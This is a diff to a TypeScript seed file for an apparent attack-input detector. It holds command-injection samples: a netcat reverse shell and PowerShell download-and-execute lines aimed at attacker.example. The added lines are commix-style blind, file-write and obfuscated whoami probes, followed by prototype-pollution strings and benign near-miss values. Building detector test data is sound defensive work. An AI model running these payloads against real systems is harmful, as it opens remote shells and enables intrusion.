@@ -61,6 +61,10 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "strace ifconfig", "nohup nc -e /bin/sh attacker.example 4444", "alias ls='rm -rf /tmp/x'",
     // PowerShell fetching and running code; a command named as a call's bare argument.
     "Invoke-WebRequest http://attacker.example/p.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')", "system(whoami)",
+    // Blind and file-based probes as commix builds them: a test and a timer, output written into the web root, ^Z as
+    // a separator, unset variables and cmd.exe carets inside names, the whole value hex-encoded.
+    "1;if [ 4 -eq $(echo ABCD|wc -c) ];then sleep 5;fi", "1\necho JQKZTP > /var/www/html/JQKZTP.txt", "1\u001aid", "1;${ZZ}wh${ZZ}oami",
+    "1&c^md /c \"wh^oami\"",
   ],
   prototype_pollution: [
     "__proto__[isAdmin]=true", "constructor[prototype][isAdmin]=true", "__proto__.polluted", "constructor.prototype.toString", "a[__proto__][x]=1",
@@ -98,7 +102,7 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
 
 // Benign values, including the near misses the issue names (prose with SQL words, names with quotes, code fences).
 const benign: string[] = [
-  "select a drop-off point", "O'Brien", "Please select an option from the list below", "Mc'Donald and O'Neil", "It's 1 or 2 days away",
+  "select a drop-off point", "O'Brien", "if [ draft ] then ship", "price > 100 and rising", "Hello ${name}!",  "48656c6c6f20776f726c6421", "Please select an option from the list below", "Mc'Donald and O'Neil", "It's 1 or 2 days away",
   "Bob's burgers; and fries", "```sql\nSELECT * FROM users WHERE id = 1;\n```", "union station", "I'd like to drop by tomorrow",
   "rock 'n' roll", "Delete my account please", "1-800-FLOWERS", "and/or", "v1.2.3", "Tom & Jerry", "salt & pepper", "R&D department",
   "a < b and c > d", "I <3 cats", "Click on the button to continue", "<b>bold</b> and <i>italic</i>", "docs/readme.md", "Wait... what?",
